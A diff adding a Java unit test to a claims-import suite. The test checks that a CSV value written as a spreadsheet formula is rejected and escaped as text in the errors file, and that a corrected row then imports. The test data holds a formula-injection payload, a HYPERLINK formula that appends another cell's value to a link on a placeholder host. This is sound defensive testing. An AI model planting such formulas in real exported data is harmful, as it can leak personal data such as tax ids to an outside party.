@@ -744,6 +744,38 @@ class ClaimImportTest {
         assertThat(rows.get(1)[kept.length]).startsWith("(row) has 13 value(s)");
     }
 
+    /**
+     * A rejected value a spreadsheet would run, beside a whole tax id: the errors file, which staff open in one, holds
+     * it as text; the other values as they were (a phone starting with +), and one typed again imports.
+     */
+    @Test
+    void anErrorsFileHoldsARejectedFormulaAsTextAndTheOtherValuesAsTheyWere() throws Exception {
+        String formula = "=HYPERLINK(\"https://x.example/?\"&H2;\"open\")";
+        String header = HEADER + ",claimantPhone";
+        String bad = row(1).replace("Claimant 1", "\"" + formula.replace("\"", "\"\"") + "\"") + ",+1 916 555 0142";
+        Path file = write("formula.csv", header + "\n" + bad + "\n", StandardCharsets.UTF_8);
+        assertThat(run(file, false, false).rejected()).singleElement()
+                .satisfies(r -> assertThat(r.column()).isEqualTo("claimantName"));
+
+        Path errors = ClaimImport.errorsFileOf(file);
+        List<String[]> rows = readCsv(errors);
+        int name = List.of(rows.get(0)).indexOf("claimantName");
+        int phone = List.of(rows.get(0)).indexOf("claimantPhone");
+        assertThat(rows.get(1)[name]).isEqualTo("'" + formula);
+        assertThat(rows.get(1)[phone]).as("not rejected: as it was").isEqualTo("+1 916 555 0142");
+        assertThat(rows.get(1)[List.of(rows.get(0)).indexOf("taxId")]).isEqualTo("100-00-0001");
+
+        ClaimImport.Report unchanged = run(errors, false, false);
+        assertThat(unchanged.rejected()).singleElement().satisfies(r -> assertThat(r.reason())
+                .startsWith("must not start with an apostrophe and =, +, - or @"));
+        String typedAgain = Files.readString(errors, StandardCharsets.UTF_8).replace("\"'" + formula.replace("\"",
+                "\"\"") + "\"", "Claimant 1");
+        Files.writeString(errors, typedAgain, StandardCharsets.UTF_8);
+        assertThat(run(errors, false, false).imported()).isEqualTo(1);
+        assertThat(queries.claims(org.claimdesk.store.ClaimQuery.all())).singleElement()
+                .satisfies(c -> assertThat(c.claimantPhone()).isEqualTo("+1 916 555 0142"));
+    }
+
     @Test
     void strictImportsNothingWhenAnyRowIsInvalid() throws Exception {
         Path file = write("mixed.csv", MIXED, StandardCharsets.UTF_8);
